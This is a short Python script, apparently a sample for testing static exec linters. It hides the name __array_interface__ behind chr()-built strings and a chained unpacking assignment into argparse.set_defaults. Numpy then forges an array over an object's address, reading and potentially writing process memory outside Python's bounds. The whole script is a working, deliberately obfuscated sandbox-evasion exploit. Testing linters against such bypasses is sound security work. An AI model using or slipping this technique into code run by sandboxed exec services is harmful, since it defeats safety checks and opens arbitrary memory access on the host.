# source: https://github.com/unslothai/unsloth/pull/9777 and https://github.com/unslothai/unsloth-zoo/pull/1113 (a static exec linter missed bindings made by the later targets of a chained assignment and by unpacking); https://github.com/python-security/pyt/pull/164 (unpacking targets lost by a taint tracker); numpy array interface protocol, https://numpy.org/doc/stable/reference/arrays.interface.html ("data": (address, read_only) is trusted)
# family: hidden **kw (chained unpacking target) into ArgumentParser.set_defaults(); parse_args() then setattr()s the run-time name __array_interface__
# goal: an ndarray over any address (a Python object's header): read and write process memory outside what Python bounds
import numpy as np
import argparse
import operator
import pandas as pd


class Box:
    pass


class Ctx:
    def __init__(self, v):
        self.v = v

    def __enter__(self):
        return self.v

    def __exit__(self, typ, val, tb):
        return False


box = Box()
addr = int(repr(box).split(" at ")[1].rstrip(">"), 16)
u2 = chr(95) * 2
key = u2 + "array" + chr(95) + "interface" + u2
spec = {"data": (addr, False), "shape": (16,), "typestr": "|u1", "version": 3}
kw = {"window": 20}
x = (kw,) = ({key: spec},)
p = argparse.ArgumentParser()
p.set_defaults(**kw)
ns = p.parse_args([])
raw = np.asarray(ns)
print("address", hex(addr))
print("object header bytes read through the forged array:", raw.tolist())
